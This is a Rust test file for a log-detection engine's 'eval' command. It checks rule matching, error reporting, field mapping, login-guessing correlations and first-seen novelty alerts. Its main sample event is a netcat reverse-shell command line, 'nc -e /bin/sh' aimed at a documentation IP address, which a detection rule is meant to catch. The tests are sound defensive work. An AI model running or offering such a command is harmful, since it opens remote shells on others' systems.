//! `eval`: detections from lines, and what becomes of lines that are none.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::Stdio;

use serde_json::json;
use support::{BROKEN, NETCAT, event, folder, run_with, text};

const MATCHING: &str = r#"{"Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 192.0.2.1"}"#;
const OTHER: &str = r#"{"Image":"/usr/bin/nc","CommandLine":"nc -h"}"#;
const PROCESS: &str = "product=linux,category=process_creation";

fn lines(lines: &[&str]) -> Vec<u8> {
    lines.join("\n").into_bytes()
}

#[test]
fn a_detection_has_the_rule_the_evidence_and_the_line() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let arguments = ["eval", "--rules", text(rules.path()), "--logsource", PROCESS];
    let run = run_with(&arguments, &lines(&[OTHER, MATCHING, ""]));
    assert_eq!(run.code, Some(0), "{run:?}");
    let expected = json!({
        "kind": "detection",
        "line": 2,
        "rule": {
            "id": "4d2e1c7a-2f0b-4f0e-9a53-6d6c4b1f0b11",
            "title": "Netcat With a Program",
            "level": "high",
            "tags": ["attack.execution", "attack.t1059.004"],
        },
        "evidence": [
            {"field": "Image", "value": "/usr/bin/nc"},
            {"field": "CommandLine", "value": "nc -e /bin/sh 192.0.2.1"},
        ],
    });
    let mut found = run.lines();
    let evidence = found[0]["evidence"].as_array_mut().unwrap();
    evidence.sort_by_key(|part| std::cmp::Reverse(part["field"].as_str().unwrap().to_owned()));
    assert_eq!(found, [expected]);
    assert_eq!(run.stderr, "");
}

#[test]
fn the_log_source_routes_and_without_one_every_rule_is_asked() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let with = |more: &[&str]| {
        let arguments = [&["eval", "--rules", text(rules.path())], more].concat();
        let run = run_with(&arguments, MATCHING.as_bytes());
        assert_eq!(run.code, Some(0), "{run:?}");
        run.lines().len()
    };
    assert_eq!(with(&["--logsource", PROCESS]), 1);
    assert_eq!(with(&["--logsource", "product=linux,category=file_event"]), 0);
    assert_eq!(with(&[]), 1);
    let wrong = run_with(&["eval", "--builtin", "--logsource", "linux"], b"");
    assert_eq!(wrong.code, Some(2), "{wrong:?}");
}

#[test]
fn a_malformed_line_is_named_and_the_rest_goes_on() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let mut input = lines(&[MATCHING, "{\"Image\":", "[1]", ""]);
    input.extend_from_slice(b"\xff\xfe{}\n");
    input.extend(std::iter::repeat_n(b'x', (8 << 20) + 1));
    input.push(b'\n');
    input.extend_from_slice(MATCHING.as_bytes());
    let run = run_with(&["eval", "--rules", text(rules.path())], &input);
    assert_eq!(run.code, Some(1));
    let found: Vec<u64> = run.lines().iter().map(|line| line["line"].as_u64().unwrap()).collect();
    assert_eq!(found, [1, 6]);
    let said: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(said[0], "line 2: not JSON: the line ends too early, at byte 9");
    assert_eq!(said[1], "line 3: not a JSON object");
    assert_eq!(said[2], "line 4: not UTF-8: no character begins at byte 0");
    assert_eq!(said[3], "line 5: longer than 8388608 bytes");
    assert_eq!(said[4], "4 of 6 lines cannot be read");
    assert_eq!(said.len(), 5);
}

#[test]
fn evidence_shows_what_escapes_stand_for_and_the_last_member_of_a_name() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let input = br#"
        { "CommandLine": "nc -e no", "Image" : "\/usr\/bin\/nc", "CommandLine": "nc \u002de \"\ud83d\ude00\"" }
        {"CommandLine": "nc -e /bin/sh", "Image": "/usr/bin/nc", "CommandLine": ["nc", "-h"]}
    "#;
    let run = run_with(&["eval", "--rules", text(rules.path())], input);
    assert_eq!((run.code, &*run.stderr), (Some(0), ""));
    let found = run.lines();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["line"], 2);
    let evidence = found[0]["evidence"].as_array().unwrap();
    let shown =
        |field: &str, value: &str| evidence.contains(&json!({"field": field, "value": value}));
    assert!(
        shown("Image", "/usr/bin/nc") && shown("CommandLine", "nc -e \"\u{1f600}\""),
        "{evidence:?}"
    );
}

#[test]
fn only_what_has_all_keys_of_an_event_or_alert_is_taken_for_one() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let with = |more: &str| MATCHING.replacen('{', &format!("{{{more},"), 1);
    let evaluated = [
        with(r#""kind":"alert","rule":{},"event_kind":"exec""#),
        with(r#""kind":"exec","rule":{},"event_kind":"exec","created_at":1"#),
        with(r#""id":1,"kind":"exec","observed_at":1,"boot_time":1"#),
    ];
    let passed_over = with(r#""\u006bind":"alert","rule":{},"event_kind":null,"created_at":1"#);
    let broken = with(r#""id":1,"kind":"exec","observed_at":1,"boot_time":1,"data":{}"#);
    let input = [&evaluated[..], &[passed_over, broken]].concat().join("\n");
    let run = run_with(&["eval", "--rules", text(rules.path())], input.as_bytes());
    let found: Vec<u64> = run.lines().iter().map(|line| line["line"].as_u64().unwrap()).collect();
    assert_eq!(found, [1, 2, 3], "{run:?}");
    assert!(run.stderr.starts_with("line 5: not an event of Lavender's: "), "{run:?}");
}

#[test]
fn fields_are_found_by_dotted_path_and_by_mapping() {
    let nested = r#"{"process":{"executable":"/usr/bin/nc","command_line":"nc -e /bin/sh"}}"#;
    let dotted = NETCAT
        .replace("Image|", "process.executable|")
        .replace("CommandLine|", "process.command_line|");
    let rules = folder(&[("dotted.yml", &dotted)]);
    let run = run_with(&["eval", "--rules", text(rules.path())], nested.as_bytes());
    assert_eq!(run.lines().len(), 1, "{run:?}");

    let mapping = "Image: process.executable\nCommandLine: process.command_line\n";
    let rules = folder(&[("nc.yml", NETCAT)]);
    let files = folder(&[("mapping.yml", mapping), ("wrong.yml", "Image: [a, b]\n")]);
    let file = files.path().join("mapping.yml");
    let arguments = ["eval", "--rules", text(rules.path()), "--field-mapping", text(&file)];
    let run = run_with(&arguments, nested.as_bytes());
    assert_eq!(run.lines().len(), 1, "{run:?}");
    assert_eq!(run_with(&arguments[..3], nested.as_bytes()).lines().len(), 0);

    let wrong = files.path().join("wrong.yml");
    let arguments = ["eval", "--builtin", "--field-mapping", text(&wrong)];
    let run = run_with(&arguments, nested.as_bytes());
    assert_eq!(run.code, Some(3), "{run:?}");
    assert!(run.stderr.contains("wrong.yml:1: "), "{run:?}");
}

#[test]
fn events_of_lavender_are_routed_by_their_kind() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let alert = r#"{"kind":"alert","rule":{},"event_kind":"exec","created_at":1,"Image":"/nc"}"#;
    let input = lines(&[&event::exec(), &event::exit(), &event::exec_truncated(), alert]);
    let arguments = ["eval", "--rules", text(rules.path()), "--events"];
    let run = run_with(&arguments, &input);
    assert_eq!(run.code, Some(0), "{run:?}");
    let found = run.lines();
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0]["line"], 1);
    assert!(found[0].get("undetermined").is_none());
    let whole: serde_json::Value = serde_json::from_str(&event::exec()).unwrap();
    assert_eq!(found[0]["event"], whole);
    assert_eq!(found[1]["line"], 3);
    assert_eq!(found[1]["undetermined"], json!(["CommandLine"]));

    let cut = event::exec().replace("\"filename\"", "\"name\"");
    let run = run_with(&arguments, cut.as_bytes());
    assert_eq!(run.code, Some(1), "{run:?}");
    assert!(run.stderr.starts_with("line 1: not an event of Lavender's: "), "{run:?}");
}

#[test]
fn a_detection_is_there_before_the_stream_ends() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let arguments = ["eval", "--rules", text(rules.path())];
    let mut child = support::command(&arguments).stdin(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    writeln!(stdin, "{MATCHING}").unwrap();
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    assert!(line.contains("\"line\":1"), "{line}");

    // And a reader that has had enough ends it.
    drop(stdout);
    while writeln!(stdin, "{MATCHING}").is_ok() {}
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
}

#[test]
fn a_set_with_a_fault_evaluates_nothing() {
    let rules = folder(&[("nc.yml", NETCAT), ("broken.yml", BROKEN)]);
    let run = run_with(&["eval", "--rules", text(rules.path())], MATCHING.as_bytes());
    assert_eq!(run.code, Some(1));
    assert_eq!(run.stdout, "");
    assert!(run.stderr.contains("broken.yml:7: "), "{run:?}");
    assert_eq!(run_with(&["eval"], b"").code, Some(2));
}

#[test]
fn stats_say_what_each_rule_did_and_took() {
    let rules = folder(&[("nc.yml", NETCAT)]);
    let file = rules.path().join("stats.json");
    let arguments =
        ["eval", "--rules", text(rules.path()), "--logsource", PROCESS, "--stats", text(&file)];
    let events: Vec<_> =
        (0..100).map(|number| if number < 30 { MATCHING } else { OTHER }).collect();
    let run = run_with(&arguments, &lines(&events));
    assert_eq!((run.code, run.lines().len()), (Some(0), 30), "{run:?}");
    let stats: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let stats = &stats.as_array().unwrap()[0];
    assert_eq!(stats["title"], "Netcat With a Program");
    assert_eq!((&stats["offered"], &stats["matched"]), (&json!(100), &json!(30)));
    assert_eq!((&stats["skipped"], &stats["state"]), (&json!(0), &json!("active")));
    assert!(stats["timed"].as_u64().unwrap() > 0, "{stats}");
    let elsewhere = ["eval", "--builtin", "--stats", "/nonexistent/stats.json"];
    let run = run_with(&elsewhere, b"");
    assert_eq!(run.code, Some(3), "{run:?}");
    assert!(run.stderr.contains("/nonexistent/stats.json"), "{run:?}");
}

const LOGINS: &str = "title: Failed Login
id: failed
name: failed_login
logsource: {product: acme}
detection: {s: {outcome: failure}, condition: s}
---
title: Login
id: login
logsource: {product: acme}
detection: {s: {outcome: success}, condition: s}
---
title: Passwords Tried, One Found
id: guessed
level: high
correlation:
    type: temporal_ordered
    rules: [tried, login]
    group-by: [user]
    timespan: 5m
---
title: Passwords Tried
id: tried
correlation:
    type: event_count
    rules: [failed_login]
    group-by: [user]
    timespan: 1m
    condition: {gte: 3}
";

#[test]
fn correlations_run_over_any_lines_that_have_a_time() {
    let rules = folder(&[("logins.yml", LOGINS)]);
    let line = |time: &str, outcome: &str, user: &str| {
        json!({"at": {"time": time}, "outcome": outcome, "user": user}).to_string()
    };
    let stream = [
        line("2026-01-31T10:00:00Z", "failure", "alice"),
        // Out of order, by less than two seconds.
        line("2026-01-31T10:00:21.5Z", "failure", "alice"),
        line("2026-01-31T10:00:20Z", "failure", "alice"),
        line("2026-01-31T10:00:30Z", "failure", "bob"),
        line("2026-01-31T10:04:00Z", "success", "alice"),
        line("2026-01-31T10:04:00Z", "success", "bob"),
    ];
    let arguments = ["eval", "--rules", text(rules.path()), "--time-field", "at.time"];
    let run = run_with(&arguments, stream.join("\n").as_bytes());
    assert_eq!((run.code, run.stderr.as_str()), (Some(0), ""), "{run:?}");
    let found = run.lines();
    assert_eq!(found.len(), 1, "what is only there for correlations is silent: {run:?}");
    assert_eq!(found[0]["kind"], "correlation");
    assert_eq!(found[0]["rule"]["id"], "guessed");
    assert_eq!(found[0]["group"], json!([{"field": "user", "value": "alice"}]));
    assert_eq!(found[0]["observed_at"], "2026-01-31T10:04:00.000000000Z");
    assert_eq!(found[0]["lines"], json!([2, 5]));
    assert_eq!(found[0]["incomplete"], false);
    let without = run_with(&arguments[..3], stream.join("\n").as_bytes());
    assert_eq!(without.code, Some(0), "{without:?}");
    assert_eq!(without.stdout, "");
    let expected =
        "6 detections are on events without a time that can be read, and are not correlated\n";
    assert_eq!(without.stderr, expected);
}

#[test]
fn correlations_run_over_events_of_the_agent() {
    let text_of = |shown: &str| {
        format!(
            "title: Exec\nid: exec\nname: exec\nlogsource: {{category: process_creation}}\n\
             detection: {{s: {{Image|exists: true}}, condition: s}}\n---\n\
             title: Once\nid: once\ncorrelation: {{type: event_count, rules: [exec], \
             group-by: [ProcessTreeGuid], timespan: 1m, condition: {{gte: 1}}{shown}}}\n"
        )
    };
    for (shown, kinds) in
        [("", &["correlation"][..]), (", generate: true", &["detection", "correlation"])]
    {
        let rules = folder(&[("once.yml", &text_of(shown))]);
        let run = run_with(&["eval", "--rules", text(rules.path())], event::exec().as_bytes());
        assert_eq!(run.code, Some(0), "{run:?}");
        let found: Vec<String> =
            run.lines().iter().map(|line| line["kind"].as_str().unwrap().to_owned()).collect();
        assert_eq!(found, kinds, "{run:?}");
    }
}

const FIRST_LOGIN: &str = "title: First Login From an Address
id: first
logsource: {product: acme}
detection: {s: {outcome: success}, condition: s}
lavender: {novelty: {fields: [address], per: [user], baseline: 1h}}
---
title: Several Such
id: several
correlation: {type: event_count, rules: [first], timespan: 1h, condition: {gte: 2}, generate: true}
";

#[test]
fn rules_with_novelty_learn_and_then_show_the_first_sight() {
    let rules = folder(&[("first.yml", FIRST_LOGIN)]);
    let line = |time: &str, user: &str, address: &str| {
        json!({"time": time, "outcome": "success", "user": user, "address": address}).to_string()
    };
    let stream = [
        line("2026-01-31T10:00:00Z", "alice", "192.0.2.1"),
        line("2026-01-31T10:30:00Z", "bob", "192.0.2.2"),
        line("2026-01-31T11:30:00Z", "alice", "192.0.2.1"),
        line("2026-01-31T11:31:00Z", "alice", "192.0.2.2"),
        line("2026-01-31T11:32:00Z", "alice", "192.0.2.2"),
        json!({"time": "2026-01-31T11:33:00Z", "outcome": "success", "user": "alice"}).to_string(),
        line("2026-01-31T11:34:00Z", "bob", "192.0.2.3"),
    ];
    let arguments = ["eval", "--rules", text(rules.path())];
    let run = run_with(&arguments, stream.join("\n").as_bytes());
    assert_eq!(run.code, Some(0), "{run:?}");
    let shown: Vec<_> =
        run.lines().iter().map(|line| (line["kind"].clone(), line["line"].clone())).collect();
    let expected = [
        (json!("detection"), json!(4)),
        (json!("detection"), json!(7)),
        (json!("correlation"), json!(null)),
    ];
    assert_eq!(shown, expected, "{run:?}");
    let first = &run.lines()[0];
    let evidence = json!([
        {"field": "outcome", "value": "success"},
        {"field": "user", "value": "alice"},
        {"field": "address", "value": "192.0.2.2"},
    ]);
    assert_eq!((&first["evidence"], &first["incomplete"]), (&evidence, &json!(false)));
    assert!(first["alert"].is_string());
    assert_eq!(
        run.stderr,
        "1 matches lack the value of which only the first sight counts\n\
         2 values were learned in the time that rules take for it, and raised nothing\n"
    );
    // The same again is the same alerts.
    assert_eq!(run_with(&arguments, stream.join("\n").as_bytes()).stdout, run.stdout);
    let all = [&arguments[..], &["--no-baseline"]].concat();
    let lines = run_with(&all, stream.join("\n").as_bytes()).lines();
    assert_eq!(lines.iter().filter(|line| line["kind"] == "detection").count(), 4);
    let untimed =
        run_with(&arguments, br#"{"outcome": "success", "user": "alice", "address": "a"}"#);
    assert!(untimed.stdout.is_empty() && untimed.stderr.contains("without a time"), "{untimed:?}");
}

#[test]
fn novelty_is_seen_in_events_of_the_agent() {
    let rule = "title: First\nid: first\nlogsource: {category: process_creation}\n\
                detection: {s: {Image|exists: true}, condition: s}\nlavender: {novelty: {fields: Image}}\n";
    let rules = folder(&[("first.yml", rule)]);
    let event = event::exec();
    let twice = format!("{event}\n{}", event.replace("\"observed_at\":17", "\"observed_at\":18"));
    let run = run_with(&["eval", "--rules", text(rules.path())], twice.as_bytes());
    assert_eq!((run.code, run.lines().len()), (Some(0), 1), "{run:?}");
    assert_eq!(run.lines()[0]["line"], 1);
}
